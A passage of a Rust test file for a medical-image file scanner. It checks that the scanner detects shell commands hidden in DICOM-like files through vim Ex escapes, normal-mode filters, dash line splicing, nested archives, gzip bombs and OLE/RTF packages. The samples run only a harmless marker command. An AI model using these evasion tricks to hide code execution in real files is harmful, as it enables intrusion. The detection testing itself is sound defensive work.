            "{script:?}: {found:?}"
        );
        // Reported where the command starts in the file as written.
        let at = found.map_or(0, |c| c.offset);
        assert!(at >= lead.len() && at < script.len(), "{script:?}: {at}");
    }
    for script in [
        "# s\\\nh -c 'echo RAN'\n",
        "X='s\\\nh'\n: \"$X\" -c 'echo RAN'\n",
        // Review s12-r10: a quoted here-document delimiter keeps the body as written, so
        // `x\` then `E` ends the body and the next line runs (it was spliced into
        // `xE`, the body read on to the end, and the command hidden in it); unquoted,
        // dash splices first and the body swallows the rest (`RA''N`: the
        // body that cat prints is not taken for the run).
        "cat <<'E'\nx\\\nE\nsh -c 'echo RA''N'\n",
        "cat <<\"E\"\nx\\\nE\ns\\\nh -c 'echo RAN'\n",
        "cat <<-\\E\n\tx\\\n\tE\nsh -c 'echo RA''N'\n",
        "cat <<E\nx\\\nE\nsh -c 'echo RA''N'\n",
        "cat <<E\nx\\\nE\nE\nsh -c 'echo RA''N'\n",
        // `<<` in arithmetic is a shift, no here-document: the comment ends at its line.
        ": $((1<<2))\n# x\\\nsh -c 'echo RA''N'\n",
        ": $(( (1) << 2 ))\n# x\\\nsh -c 'echo RA''N'\n",
    ] {
        let ran = dash(script.as_bytes()).contains("RAN");
        let found = find_shell_command(script.as_bytes());
        assert_eq!(
            ran,
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{script:?}: {found:?}"
        );
    }
}

/// Issue 10 (session 12): vim builds the string it hands to the shell from literals
/// joined with `.` or `..` and their escapes; `exe "!s"."h -c …"` ran (vim -es) and got
/// no finding, the model judging the first literal (`!s`) alone. Each case is run by
/// the real vim first; prose with dots and quotes is no command.
#[test]
fn vim_strings_joined_into_a_shell_command_are_found() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    for escape in [
        &b"exe \"!s\".\"h -c 'echo x > RAN'\"\n"[..],
        b"exe '!s'..'h -c \"echo x > RAN\"'\n",
        b"execute \"!\" . 'sh -c \"echo x > RAN\"'\n",
        b"exe \"!s\"  ..  'h' . \" -c 'echo x > RAN'\"\n",
        b"exe \"!\\x73h -c 'echo x > RAN'\"\n",
        b"exe \"\\x21sh -c 'echo x > RAN'\"\n",
        b"exe '!s''''h -c \"echo x > RAN\"'\n",
        b"call system('s' . 'h -c \"echo x > RAN\"')\n",
        b"let r = system(\"s\" .. \"h -c 'echo x > RAN'\")\n",
        // Review s12-r10: `\u`/`\U` escapes, `:exe` abbreviated (`execu`), and a quote
        // right after the command name were not read (vim -es runs each).
        b"exe \"!\\u73h -c 'echo x > RAN'\"\n",
        b"exe \"!\\U00000073h -c 'echo x > RAN'\"\n",
        b"execu \"!sh -c 'echo x > RAN'\"\n",
        b"exe\"!sh -c 'echo x > RAN'\"\n",
        b"exe'!sh -c \"echo x > RAN\"'\n",
    ] {
        let file = [garbage, escape, b"q!\n"].concat();
        // (`'!s''''h …'` is `!s''h …`, which sh runs as `sh`.)
        let runs = runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
        assert!(runs, "vim did not run {escape:?}");
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{escape:?}: {found:?}"
        );
    }
    for text in [
        &b"exe \"!important\" . \" note\"\n"[..],
        b"exe 'normal' . '!sh -c x'\n",
        b"The system('s' . 'h') notes.\n",
    ] {
        assert_eq!(pacsguard_dicom::find_ex_command(text), None, "{text:?}");
    }
}

/// Issue 10 (session 13): an `:execute` string is an Ex command line of its own, and vim
/// runs a shell escape in it behind command modifiers and ranges (`exe "silent !sh …"`,
/// `exe "sil! !sh …"`, `exe 'sil' '!sh …'`, `exe "g/^/!sh …"`), as it does on a line of the
/// file (`keepalt !sh …`, `noa sil keepj !sh …`); a string built from a variable or a call
/// (`exe "!" . a`, `exe c`, `nr2char(33)`, `call system(g:p)`) hands vim a command known
/// only when it runs. Each case is run by the real vim first, and each is an alert.
#[test]
fn vim_execute_strings_behind_modifiers_or_built_at_run_time_are_found() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    let vim = |escape: &[u8]| {
        let file = [garbage, escape, b"\nq!\n"].concat();
        let ran = runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
        (file, ran)
    };
    for escape in [
        &b"exe \"silent !sh -c 'echo x > RAN'\""[..],
        b"exe \"silent! !sh -c 'echo x > RAN'\"",
        b"exe 'sil !sh -c \"echo x > RAN\"'",
        b"exe 'keepalt !sh -c \"echo x > RAN\"'",
        b"exe 'noautocmd !sh -c \"echo x > RAN\"'",
        b"exe \"unsilent !sh -c 'echo x > RAN'\"",
        b"exe 'silent' '!sh -c \"echo x > RAN\"'",
        b"exe 'sil ' . 'keepalt ' . \"!sh -c 'echo x > RAN'\"",
        b"exe \"echo 1|!sh -c 'echo x > RAN'\"",
        b"exe \"echo 1\\n!sh -c 'echo x > RAN'\"",
        b"exe \"r!sh -c 'echo x > RAN'\"",
        b"exe \"rea !sh -c 'echo x > RAN'\"",
        b"exe \"wri !sh -c 'echo x > RAN'\"",
        b"exe \"filter /x/ !sh -c 'echo x > RAN'\"",
        b"exe \"g/^/!sh -c 'echo x > RAN'\"",
        b"keepalt !sh -c 'echo x > RAN'",
        b"noa sil keepj !sh -c 'echo x > RAN'",
        b"sil keepalt r !sh -c 'echo x > RAN'",
        b"vert !sh -c 'echo x > RAN'",
        b"3verbose !sh -c 'echo x > RAN'",
        // Built at run time: the command is known only when vim runs the line.
        b"let a = 'sh -c \"echo x > RAN\"'\nexe \"!\".a",
        b"let c='!sh -c \"echo x > RAN\"'\nexe c",
        b"let c='!sh -c \"echo x > RAN\"'\nexe 'sil ' . c",
        b"exe 'sil' . ' ' . nr2char(33) . 'sh -c \"echo x > RAN\"'",
        b"let g:p = 'sh -c \"echo x > RAN\"'\ncall system(g:p)",
        b"let a = '; sh -c \"echo x > RAN\"'\nexe '!true ' . a",
    ] {
        let (file, ran) = vim(escape);
        assert!(ran, "vim did not run {:?}", String::from_utf8_lossy(escape));
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{:?}: {found:?}",
            String::from_utf8_lossy(escape)
        );
    }
    // What vim refuses or runs no shell for, and prose, is no command.
    for text in [
        &b"exe 'sandbox !sh -c \"echo x > RAN\"'"[..],
        b"let n = 3\nexe \"normal! \" . n . \"j\"",
        b"let t = 3\nexe \"echo 'time:\" . t . \"'\"",
        b"exe 'normal' . '!sh -c \"echo x > RAN\"'",
        b"execute the plan\nexecute immediately",
        b"exe 'echo \"done!\"'",
    ] {
        let (file, ran) = vim(text);
        assert!(!ran, "vim ran {:?}", String::from_utf8_lossy(text));
        assert_eq!(
            pacsguard_dicom::find_ex_command(&file),
            None,
            "{:?}",
            String::from_utf8_lossy(text)
        );
    }
}

/// Review s14-r01: each of these ran a shell command under vim -es and got no finding:
/// the `execute()` and `win_execute()` functions (a string or a list of Ex command
/// lines), a variable set by `let [a, b] =` or `const`, a dictionary member, `job_start()`
/// and `libcallnr()`, a modifier with its `!` and no blank before the next
/// (`sil!keepa`), and a `\<Char-33>` key in a string.
#[test]
fn vim_functions_and_variables_that_run_commands_are_found() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    for escape in [
        &b"call execute('silent !sh -c \"echo x > RAN\"')"[..],
        b"call execute(['silent', '!sh -c \"echo x > RAN\"'])",
        b"let x = execute('!sh -c \"echo x > RAN\"')",
        b"eval execute('!sh -c \"echo x > RAN\"')",
        b"call win_execute(win_getid(), '!sh -c \"echo x > RAN\"')",
        b"let [a, b] = ['!sh -c \"echo x > RAN\"', 1]\nexe a",
        b"const c = '!sh -c \"echo x > RAN\"'\nexe c",
        b"let a = {'k': '!sh -c \"echo x > RAN\"'}\nexe a.k",
        b"call job_start(['sh', '-c', 'echo x > RAN'])\nsleep 1",
        b"call libcallnr('libc.so.6', 'system', 'echo x > RAN')",
        b"sil!keepa !sh -c 'echo x > RAN'",
        b"exe \"sil!keepa !sh -c 'echo x > RAN'\"",
        b"exe \"\\<Char-33>sh -c 'echo x > RAN'\"",
        b"exe \"norm! :!sh -c 'echo x > RAN'\\r\"",
        b"exe \"sil normal :!sh -c 'echo x > RAN'\\<CR>\"",
    ] {
        let file = [garbage, escape, b"\nq!\n"].concat();
        let shown = String::from_utf8_lossy(escape);
        if Path::new("/usr/bin/vim").exists() {
            let ran = runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
            assert!(ran, "vim did not run {shown}");
        }
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{shown}: {found:?}"
        );
    }
    // Prose with the same words runs nothing.
    for text in [
        &b"the execute(plan) step; job_start(s) are logged"[..],
        b"let [a, b] = [1, 2]\nexe 'echo' a",
        b"exe \"echo '\\<Char-33>'\"",
    ] {
        let file = [garbage, text, b"\nq!\n"].concat();
        assert_eq!(
            pacsguard_dicom::find_ex_command(&file),
            None,
            "{}",
            String::from_utf8_lossy(text)
        );
    }
}

/// Issue 10 (session 15): `:normal`'s filter operator (`!{motion}` and `!!`) hands its
/// command line to the shell once an Enter key ends it, behind counts, registers and
/// motions, on a line of the file (Ctrl-V Enter) or in an `:execute` string. Each case is
/// run by the real vim first; without the Enter vim abandons the line and runs nothing.
#[test]
fn normal_mode_filters_are_found() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    // Lines in the buffer, the cursor on the first: counts and motions have room.
    let lines = b"put =range(1,9)\n1\n".as_slice();
    let vim = |escape: &[u8]| {
        let file = [garbage, lines, escape, b"\nq!\n"].concat();
        let ran = runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
        (file, ran)
    };
    for escape in [
        &b"exe \"norm! !!sh -c 'echo x > RAN'\\r\""[..],
        b"exe \"norm! 3j!!sh -c 'echo x > RAN'\\r\"",
        b"exe \"norm! \\\"a2!!sh -c 'echo x > RAN'\\r\"",
        b"exe \"normal !Gsh -c 'echo x > RAN'\\<CR>\"",
        b"exe \"norm! !ipsh -c 'echo x > RAN'\\r\"",
        b"exe \"norm! gg!3jsh -c 'echo x > RAN'\\n\"",
        b"exe \"norm! !/5\\rsh -c 'echo x > RAN'\\r\"",
        b"exe \"norm! !!sh -c 'echo x > RAN'\\<C-M>\"",
        b"exe \"norm! !!sh -c 'echo x > RAN'\" . \"\\r\"",
        b"call execute(\"sil norm! !!sh -c 'echo x > RAN'\\r\")",
        b"norm! !!sh -c 'echo x > RAN'\x16\r",
        b"norm! 3j!!sh -c 'echo x > RAN'\x16\r",
        b"%norm! !!sh -c 'echo x > RAN'\x16\r",
        b"sil norm \"a!jsh -c 'echo x > RAN'\x16\r",
        // The command built at run time.
        b"let a = \"sh -c 'echo x > RAN'\"\nexe \"norm! !!\" . a . \"\\r\"",
        b"let a = \"sh -c 'echo x > RAN'\\r\"\nexe \"norm! !!\" . a",
        // Enter keys with Shift or Control (review s15-r10).
        b"exe \"norm! !!sh -c 'echo x > RAN'\\<kEnter>\"",
        b"exe \"norm! !!sh -c 'echo x > RAN'\\<S-CR>\"",
        b"exe \"norm! !!sh -c 'echo x > RAN'\\<C-S-kEnter>\"",
        // Ctrl-V before a key types it as it is (review s15-r10).
        b"exe \"norm! !gg\\<C-V>sh -c 'echo x > RAN'\\r\"",
        b"exe \"norm! !:1\\r\\<C-V>sh -c 'echo x > RAN'\\r\"",
        b"norm! !!\x16sh -c 'echo x > RAN'\x16\r",
        // Behind `:folddoopen` and `:vim9cmd` (review s15-r10).
        b"exe \"folddoopen norm! !!sh -c 'echo x > RAN'\\r\"",
        b"vim9 norm! !!sh -c 'echo x > RAN'\x16\r",
        b"exe \"vim9cmd norm! !!sh -c 'echo x > RAN'\\r\"",
    ] {
        let (file, ran) = vim(escape);
        let shown = String::from_utf8_lossy(escape);
        assert!(ran, "vim did not run {shown}");
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{shown}: {found:?}"
        );
    }
    // No Enter (vim abandons the command line), or no `:normal`: nothing runs.
    for text in [
        &b"exe \"norm! !!sh -c 'echo x > RAN'\""[..],
        b"normal !!sh -c 'echo x > RAN'",
        b"The abnormal !!sh -c finding\r\n",
        b"exe 'normal' . '!sh -c \"echo x > RAN\"'",
        // Meta on Enter makes it no Enter key (review s15-r10).
        b"exe \"norm! !!sh -c 'echo x > RAN'\\<M-CR>\"",
    ] {
        let (file, ran) = vim(text);
        let shown = String::from_utf8_lossy(text);
        assert!(!ran, "vim ran {shown}");
        assert_eq!(pacsguard_dicom::find_ex_command(&file), None, "{shown}");
    }
}

/// Review s15-r10: a filter whose command line is edited by keys vim types into it
/// (`\<BS>`, `\b`, `\<Ignore>`, `<C-R>=` inserting an expression's value): vim -es ran
/// each, and the command line read as typed text is not the one run. Such a key in a
/// filter's command line is the alert (COMMAND_LINE_EDITING_KEYS).
#[test]
fn normal_mode_filters_edited_by_command_line_keys_are_found() {
    let garbage = b"\0\0\0DICM\x02\0\x01\0OB\0\0\x01\x02\n\x7f\x80 garbage\n".as_slice();
    let lines = b"put =range(1,9)\n1\n".as_slice();
    for escape in [
        &b"exe \"norm! !!sx\\<BS>h -c 'echo x > RAN'\\r\""[..],
        b"exe \"norm! !!sx\\bh -c 'echo x > RAN'\\r\"",
        b"exe \"norm! !!sx\\<C-H>h -c 'echo x > RAN'\\r\"",
        b"exe \"norm! !!s\\<Ignore>h -c 'echo x > RAN'\\r\"",
        b"exe \"norm! !!\\<C-R>='sh -c \\\"echo x > RAN\\\"'\\r\\r\"",
        b"norm! !!sx\x08h -c 'echo x > RAN'\x16\r",
    ] {
        let file = [garbage, lines, escape, b"\nq!\n"].concat();
        let shown = String::from_utf8_lossy(escape);
        let ran = runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]);
        assert!(ran, "vim did not run {shown}");
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(
            found
                .as_ref()
                .is_some_and(|c| c.severity == Severity::Alert),
            "{shown}: {found:?}"
        );
    }
}

/// Review s15-r10 (fixed in session 16): the filter operator itself from a variable or a
/// call (`let k = "!!"` then `exe "norm! " . k . "sh …\r"`, `repeat("!", 2)`): vim -es ran
/// both. A part known only at run time among `:normal`'s keys before an Enter is not the
/// alert on its own (vim's ftplugin/obse.vim: `execute 'silent normal! ' . dir . pattern .
/// dir . flags . "\r"`): it is put in as the literal the file assigns, or `!!`, and the
/// keys after it are judged as the filter's command line.
#[test]
fn normal_mode_filter_operators_from_variables_are_found() {
    for escape in [
        &b"let k = \"!!\"\nexe \"norm! \" . k . \"sh -c 'echo x > RAN'\\r\""[..],
        b"exe \"norm! \" . repeat(\"!\", 2) . \"sh -c 'echo x > RAN'\\r\"",
    ] {
        let file = [
            &b"\0\0\0DICM\x02\0 garbage\nput =range(1,9)\n1\n"[..],
            escape,
            b"\nq!\n",
        ]
        .concat();
        assert!(runs_in_dir(
            "vim",
            &["-es", "-u", "NONE", "-i", "NONE"],
            &file,
            &[]
        ));
        let found = pacsguard_dicom::find_ex_command(&file);
        assert!(found.is_some_and(|c| c.severity == Severity::Alert));
    }
}

/// Review s15-r10 (fixed in session 16): a filter's keys run from a register (`let @a =
/// "!!cmd\r"` then `norm! @a`): vim -es ran it. Registers set by `:let @r` / `setreg()`
/// are put in where `:normal` or an Ex line runs them.
#[test]
fn normal_mode_filters_run_from_registers_are_found() {
    let file = b"\0\0\0DICM\x02\0 garbage\nput =range(1,9)\n1\nlet @a = \"!!sh -c 'echo x > RAN'\\r\"\nnorm! @a\nq!\n";
    assert!(runs_in_dir(
        "vim",
        &["-es", "-u", "NONE", "-i", "NONE"],
        file,
        &[]
    ));
    let found = pacsguard_dicom::find_ex_command(file);
    assert!(found.is_some_and(|c| c.severity == Severity::Alert));
}

/// MAX_EX_MODIFIERS: the walk back from a `!` reads that many command modifiers (vim runs
/// the escape behind them, and a word before them that is no command stops it); past
/// the limit the `!` counts as an escape without reading further (reported, never
/// silent).
#[test]
fn modifiers_before_an_escape_are_read_to_their_limit_and_past_it_reported() {
    let limit = pacsguard_dicom::MAX_EX_MODIFIERS;
    let escape = "!sh -c 'echo x > RAN'\n";
    let line =
        |prefix: &str, n: usize| format!("\u{7f} garbage\n{prefix}{}{escape}", "sil ".repeat(n));
    let vim_runs = |text: &str| {
        runs_in_dir(
            "vim",
            &["-es", "-u", "NONE", "-i", "NONE"],
            format!("{text}q!\n").as_bytes(),
            &[],
        )
    };
    // At the limit: read to the line start, and a word that is no command stops it.
    let at = line("", limit);
    assert!(vim_runs(&at));
    let found = pacsguard_dicom::find_ex_command(at.as_bytes());
    assert!(found.is_some_and(|c| c.severity == Severity::Alert));
    let stopped = line("xyz ", limit);
    assert!(!vim_runs(&stopped));
    assert_eq!(pacsguard_dicom::find_ex_command(stopped.as_bytes()), None);
    // One more: the walk stops at the limit and the escape is reported.
    let past = line("xyz ", limit + 1);
    let found = pacsguard_dicom::find_ex_command(past.as_bytes());
    assert!(found.is_some_and(|c| c.severity == Severity::Alert));
}

/// The limit on `!` lines modelled (each line to its end): lines that add up to
/// MAX_EX_MODELLED_BYTES are all modelled, and so are lines that add up to more in a
/// file large enough (EX_MODELLED_PER_FILE_BYTE times its size); past the larger of the
/// two, a warning naming both.
#[test]
fn ex_escapes_past_their_limit_are_a_warning() {
    let limit = pacsguard_dicom::MAX_EX_MODELLED_BYTES;
    let per_byte = pacsguard_dicom::EX_MODELLED_PER_FILE_BYTE;
    // `:!` inside a line (how `vi -s` types it), `after` bytes from the `!` to the newline.
    let line = |after: usize| {
        let mut line = b"a:!x ".to_vec();
        line.resize(3 + after, b'a');
        line.push(b'\n');
        line
    };
    // 16 lines of 1 MiB after their `!`: the limit exactly.
    let mut at_limit = Vec::new();
    for _ in 0..16 {
        at_limit.extend(line(limit / 16));
    }
    assert_eq!(pacsguard_dicom::find_ex_command(&at_limit), None);
    let warned = |text: &[u8]| {
        let found = pacsguard_dicom::find_ex_command(text).expect("a warning");
        assert_eq!(found.severity, Severity::Warning, "{found:?}");
        assert!(
            found.detail.contains("MAX_EX_MODELLED_BYTES")
                && found.detail.contains("EX_MODELLED_PER_FILE_BYTE"),
            "{}",
            found.detail
        );
    };
    // One line of `n` escapes costs about n squared (each is modelled to the line's
    // end): within MAX_EX_MODELLED_BYTES for a short line, past it for a longer one.
    let escapes = |n: usize| {
        let mut text = b"a".to_vec();
        text.extend(b":!".repeat(n));
        text.push(b'\n');
        text
    };
    assert_eq!(pacsguard_dicom::find_ex_command(&escapes(2_000)), None);
    warned(&escapes(5_000));
    // A file of 8 MiB, lines of 1 KiB with `per_byte - 1` escapes near their start:
    // more than MAX_EX_MODELLED_BYTES modelled, within `per_byte` times the file's size;
    // with `per_byte + 1`, past it.
    let file = |escapes: usize| {
        let mut one = b"a".to_vec();
        one.extend(b":!".repeat(escapes));
        one.resize(1023, b'b');
        one.push(b'\n');
        one.repeat(8 * 1024)
    };
    let within = file(per_byte - 1);
    assert!((per_byte - 1) * within.len() > limit);
    assert_eq!(pacsguard_dicom::find_ex_command(&within), None);
    warned(&file(per_byte + 1));
    // Lines that start with `!` cost the file once and are not counted: no warning.
    let starts: Vec<u8> = b"!x y z\n".repeat(limit / 4);
    assert_eq!(pacsguard_dicom::find_ex_command(&starts), None);
}

/// Walk-around (session 5): a dropped payload named with a trailing `.` (`./x.`) runs,
/// and was taken for the end of a sentence. Proven with dash; a sentence ending in a
/// program directory's path is still prose.
#[test]
fn a_dropped_payload_whose_name_ends_in_a_dot_is_a_command() {
    let script = b"\x01\x02binary\x7f\n./x.\n".as_slice();
    let payload = b"#!/bin/sh\necho x > RAN\n".as_slice();
    assert!(runs_in_dir("dash", &["-s"], script, &[("x.", payload)]));
    let found = find_shell_command(script).expect("found");
    assert_eq!(found.severity, Severity::Alert, "{found:?}");
    assert_eq!(find_shell_command(b"/usr/local/sbin/foo.\n"), None);
}

/// Walk-around (session 5): a ZIP inside a ZIP was not opened, so a program two ZIPs
/// deep left the outer ZIP "inert" (a warning). Nested ZIPs are opened to
/// MAX_ZIP_DEPTH (at it: found), one deeper is a warning naming the limit. Built with
/// Python's zipfile, deflated as zip tools write them.
#[test]
fn zips_inside_zips_are_opened_to_their_depth_limit() {
    use pacsguard_dicom::MAX_ZIP_DEPTH;
    let dir = TempDir::new();
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    // nest.py DEPTH INNER OUT: INNER wrapped in DEPTH ZIPs, the outermost written to OUT.
    let script = "import sys, zipfile, io\n\
        depth, inner, out = int(sys.argv[1]), sys.argv[2], sys.argv[3]\n\
        name, data = inner, open(inner, 'rb').read()\n\
        for level in range(depth):\n\
        \x20   buf = io.BytesIO()\n\
        \x20   with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:\n\
        \x20       z.writestr('readme.txt', 'x')\n\
        \x20       z.writestr(name, data)\n\
        \x20   name, data = 'level%d.zip' % level, buf.getvalue()\n\
        open(out, 'wb').write(data)\n";
    std::fs::write(dir.path("nest.py"), script).expect("write");
    let nested = |depth: usize, inner: &str| {
        let out = format!("{inner}-{depth}.zip");
        run(
            "python3",
            &["nest.py", &depth.to_string(), inner, &out],
            &dir.0,
        );
        inspect(&std::fs::read(dir.path(&out)).expect("read"))
    };
    for depth in 2..=MAX_ZIP_DEPTH {
        let inspection = nested(depth, "launcher.exe");
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "depth {depth}: {:#?}",
            inspection.observations
        );
    }
    let past = nested(MAX_ZIP_DEPTH + 1, "launcher.exe");
    assert!(alerts(&past).is_empty(), "{:#?}", past.observations);
    assert!(
        past.observations
            .iter()
            .any(|o| o.severity == Severity::Warning && o.detail.contains("MAX_ZIP_DEPTH")),
        "{:#?}",
        past.observations
    );
    let fine = nested(2, "notes.txt");
    assert!(alerts(&fine).is_empty(), "{:#?}", fine.observations);
}

/// A tar or a .tgz inside a ZIP is opened as the same tar or .tgz on its own is (review
/// s6-r10): a program in it left the ZIP "none of which runs". Made by the real tar, gzip
/// and zip programs; an inert tar in a ZIP stays no alert.
#[test]
fn tar_and_gzip_inside_a_zip_are_opened() {
    let dir = TempDir::new();
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    run("tar", &["cf", "prog.tar", "launcher.exe"], &dir.0);
    run("tar", &["czf", "prog.tgz", "launcher.exe"], &dir.0);
    run("tar", &["cf", "notes.tar", "notes.txt"], &dir.0);
    run("zip", &["-q", "tar.zip", "prog.tar"], &dir.0);
    run("zip", &["-q", "tgz.zip", "prog.tgz"], &dir.0);
    run("zip", &["-q", "-0", "stored.zip", "prog.tgz"], &dir.0);
    run("zip", &["-q", "notes.zip", "notes.tar"], &dir.0);
    // A gzipped HTML page in a ZIP is as inert as the page in a ZIP.
    std::fs::write(
        dir.path("changelog.html"),
        b"<html><body><p>1.2: fixes</p></body></html>\n",
    )
    .expect("write");
    run("gzip", &["-k", "changelog.html"], &dir.0);
    run("zip", &["-q", "page.zip", "changelog.html.gz"], &dir.0);
    for name in ["tar.zip", "tgz.zip", "stored.zip"] {
        let inspection = inspect(&std::fs::read(dir.path(name)).expect("read"));
        assert!(
            has_alert(&inspection, FindingKind::ExecutableFile),
            "{name}: {:#?}",
            inspection.observations
        );
    }
    let inert = inspect(&std::fs::read(dir.path("notes.zip")).expect("read"));
    assert!(alerts(&inert).is_empty(), "{:#?}", inert.observations);
    // (The stored .gz is also found by the embedded search, which reports HTML as it
    // does in an element: that alert is older and not the ZIP's verdict.)
    let page = inspect(&std::fs::read(dir.path("page.zip")).expect("read"));
    assert!(
        !has_alert(&page, FindingKind::ExecutableFile),
        "{:#?}",
        page.observations
    );
}

/// What the tar and gzip entries of a ZIP inflate when opened counts against
/// MAX_NESTED_ZIP_BYTES (review s6-r10): a 365 KB ZIP of a thousand small gzip bombs was
/// 63 GB of inflation. Nine 8 MiB bombs (real gzip) pass the limit before the .tgz with a
/// program is reached: a warning naming the limit, not an unbounded search.
#[test]
fn gzip_entries_of_a_zip_share_its_inflation_limit() {
    use pacsguard_dicom::MAX_NESTED_ZIP_BYTES;
    let dir = TempDir::new();
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    run("tar", &["czf", "prog.tgz", "launcher.exe"], &dir.0);
    let bomb = 8 << 20;
    let count = MAX_NESTED_ZIP_BYTES / bomb + 1;
    let mut names = Vec::new();
    for i in 0..count {
        let name = format!("log{i}.gz");
        let cmd = format!("head -c {bomb} /dev/zero | gzip -9 > {name}");
        run("sh", &["-c", &cmd], &dir.0);
        names.push(name);
    }
    names.push("prog.tgz".to_owned());
    let mut args = vec!["-q", "-0", "bombs.zip"];
    args.extend(names.iter().map(String::as_str));
    run("zip", &args, &dir.0);
    let inspection = inspect(&std::fs::read(dir.path("bombs.zip")).expect("read"));
    assert!(
        !has_alert(&inspection, FindingKind::ExecutableFile),
        "{:#?}",
        inspection.observations
    );
    assert!(
        inspection
            .observations
            .iter()
            .any(|o| o.severity == Severity::Warning && o.detail.contains("MAX_NESTED_ZIP_BYTES")),
        "{:#?}",
        inspection.observations
    );
}

/// MAX_NESTED_ZIP_BYTES: an inner ZIP that inflates to exactly the limit is opened (the
/// program in it found); one byte more is a warning naming the limit.
#[test]
fn a_zip_inside_a_zip_past_its_inflation_limit_is_a_warning() {
    use pacsguard_dicom::MAX_NESTED_ZIP_BYTES;
    let dir = TempDir::new();
    std::fs::write(dir.path("launcher.exe"), kit::real_pe()).expect("write");
    // inner.py SIZE OUT: a ZIP of exactly SIZE bytes (a stored pad, then the program),
    // deflated into the ZIP written to OUT.
    let script = "import sys, zipfile, io\n\
        size, out = int(sys.argv[1]), sys.argv[2]\n\
        exe = open('launcher.exe', 'rb').read()\n\
        def inner(pad):\n\
        \x20   buf = io.BytesIO()\n\
        \x20   with zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED) as z:\n\
        \x20       z.writestr('pad.bin', bytes(pad))\n\
        \x20       z.writestr('launcher.exe', exe)\n\
        \x20   return buf.getvalue()\n\
        data = inner(0)\n\
        data = inner(size - len(data))\n\
        assert len(data) == size, len(data)\n\
        with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:\n\
        \x20   z.writestr('inner.zip', data)\n";
    std::fs::write(dir.path("inner.py"), script).expect("write");
    let outer = |size: usize| {
        run(
            "python3",
            &["inner.py", &size.to_string(), "outer.zip"],
            &dir.0,
        );
        inspect(&std::fs::read(dir.path("outer.zip")).expect("read"))
    };
    let at_limit = outer(MAX_NESTED_ZIP_BYTES);
    assert!(
        has_alert(&at_limit, FindingKind::ExecutableFile),
        "{:#?}",
        at_limit.observations
    );
    let past = outer(MAX_NESTED_ZIP_BYTES + 1);
    assert!(alerts(&past).is_empty(), "{:#?}", past.observations);
    assert!(
        past.observations
            .iter()
            .any(|o| o.severity == Severity::Warning && o.detail.contains("MAX_NESTED_ZIP_BYTES")),
        "{:#?}",
        past.observations
    );
}

/// False alarm (session 5): an OLE, RTF or CAB file not named like DICOM was an alert
/// whatever it held. Now a cabinet (written by gcab) is an alert when it installs a
/// program, an RTF when its object is a package, an OLE file when it has macros or a
/// package; otherwise the not-DICOM warning, and named like DICOM an alert again.
#[test]
fn office_containers_alert_for_what_they_carry() {
    let dir = TempDir::new();
    std::fs::write(dir.path("setup.exe"), kit::real_pe()).expect("write");
    std::fs::write(dir.path("font.ttf"), b"font data").expect("write");
    std::fs::write(dir.path("notes.txt"), b"report text\n").expect("write");
    run(
        "gcab",
        &["-c", "-z", "evil.cab", "setup.exe", "notes.txt"],
        &dir.0,
    );
    run("gcab", &["-c", "fine.cab", "font.ttf", "notes.txt"], &dir.0);
    let read = |name: &str| std::fs::read(dir.path(name)).expect("read");
    let package_rtf = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata \n0105000002000000080000005061636b61676500}}}".to_vec();
    let plain_rtf =
        b"{\\rtf1\\ansi\\deff0 {\\fonttbl{\\f0 Arial;}}Impression: stable.\\par}".to_vec();
    let ole = |stream: &str| {
        let mut file = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        file.resize(1024, 0);
        file.extend(stream.bytes().flat_map(|b| [b, 0]));
        file.resize(2048, 0);
        file
    };
    for (runs, bytes) in [
        (true, read("evil.cab")),
        (false, read("fine.cab")),
        (true, package_rtf),
        (false, plain_rtf),
        (true, ole("_VBA_PROJECT")),
        (true, ole("\u{1}Ole10Native")),
        // Stream names are looked up without case (review s6-r10).
        (true, ole("_vba_Project")),
        (true, ole("\u{1}ole10NATIVE")),
        (false, ole("WordDocument")),
    ] {
        let inspection = inspect(&bytes);
        assert_eq!(
            !alerts(&inspection).is_empty(),
            runs,
            "{:#?}",
            inspection.observations
        );
        assert!(!alerts(&inspection.named("IM0001.dcm")).is_empty());
    }
    // An OLE file named as a Windows Installer package installs and runs its custom
    // actions when opened, macros or not (review s6-r10); named as a report, it does not.
    for (name, runs) in [
        ("setup.msi", true),
        ("fix.MSP", true),
        ("report.doc", false),
    ] {
        let inspection = inspect(&ole("SummaryInformation")).named(name);
        assert_eq!(
